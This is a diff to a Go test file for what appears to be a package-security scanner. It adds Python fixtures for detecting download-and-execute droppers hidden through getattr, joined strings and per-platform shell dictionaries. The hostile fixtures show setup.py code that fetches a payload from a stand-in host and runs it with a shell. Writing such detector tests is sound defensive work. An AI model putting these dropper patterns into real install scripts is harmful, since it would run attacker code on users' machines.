@@ -13,7 +13,8 @@ import (
 // critical when hidden or the name was joined, high otherwise; the joined
 // name itself is obfuscation, high. A constant naming a harmless method,
 // an interpreter variable that may hold a linter, or a bracket call of a
-// plain literal constant with no write is not.
+// plain literal constant with no write is not. Python's getattr(subprocess,
+// m) and a per-platform dict of shells are read the same way.
 func TestDropperThroughConstants(t *testing.T) {
 	crit, high, none := audit.Critical, audit.High, audit.SeverityNone
 	js := func(body string) map[string]string { return map[string]string{"lib/setup.js": body} }
@@ -35,6 +36,20 @@ func TestDropperThroughConstants(t *testing.T) {
 			"function run(b) {\n  fs.writeFileSync(dest, b);\n  console.log(b[m]('utf8'), dest);\n}\n"), none},
 		"benign/name-declared-twice": {js(head + "let m = 'spawn';\nlet m = 'log';\n" + fetch +
 			"function run(b) {\n  fs.writeFileSync(dest, b);\n  console[m]('sh', [dest]);\n}\n"), none},
+	})
+	py := func(body string) map[string]string { return map[string]string{"scripts/setup.py": body} }
+	pyHead := "import os, sys, subprocess as sp, tempfile, urllib.request\ndest = os.path.join(tempfile.gettempdir(), '.p')\nurllib.request.urlretrieve('https://x.example/p/' + sys.platform, dest)\n"
+	pyRunner := "runner = {'linux': 'sh', 'darwin': 'bash', 'win32': 'powershell'}.get(sys.platform, 'sh')\n"
+	checkRule(t, "download-exec", map[string]systemCase{
+		"hostile/py-join-getattr-alias": {py(pyHead + pyRunner + "m = ''.join(['Po', 'pen'])\ngetattr(sp, m)([runner, dest], start_new_session=True)\n"), crit},
+		"hostile/py-plain-const":        {py(pyHead + pyRunner + "how = 'run'\ngetattr(sp, how)([runner, dest], check=True)\n"), high},
+		"hostile/py-interp-var":         {py(pyHead + pyRunner + "sp.run([runner, dest], check=True)\n"), high},
+		"benign/py-getattr-own-object":  {py(pyHead + pyRunner + "class T:\n    def run(self, a):\n        print(a)\nt = T()\ngetattr(t, 'run')([runner, dest])\n"), none},
+		"benign/py-var-may-be-linter":   {py(pyHead + "tool = 'sh' if os.environ.get('CI') else 'ruff'\ntool = 'ruff'\nsp.run([tool, dest])\n"), none},
+	})
+	checkRule(t, "obfuscation", map[string]systemCase{
+		"hostile/py-joined-getattr": {py("import subprocess\ngetattr(subprocess, 'check_' + 'output')(['id'])\n"), high},
+		"benign/py-getattr-plain":   {py("import subprocess\ngetattr(subprocess, 'run')(['ls'])\n"), none},
 	})
 	checkRule(t, "obfuscation", map[string]systemCase{
 		"hostile/array-joined-spawn":  {js("const cp = require('child_process');\nconst m = ['sp', 'awn'].join('');\ncp[m]('id');\n"), high},
